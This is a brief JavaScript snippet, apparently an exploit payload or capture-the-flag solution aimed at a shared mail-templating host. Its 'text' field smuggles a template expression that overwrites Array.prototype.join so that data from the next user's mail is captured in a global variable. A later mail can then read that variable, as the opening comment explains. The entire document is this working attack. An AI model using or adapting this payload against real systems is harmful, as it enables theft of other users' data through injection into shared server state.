// What one mail changes in the host is there for the next one, which is somebody else's.
({
  title: "Hello",
  text: `\${globalThis.loot ?? (Array.prototype.join = function () {
    globalThis.loot = this[0];
    return "";
  })}`,
})
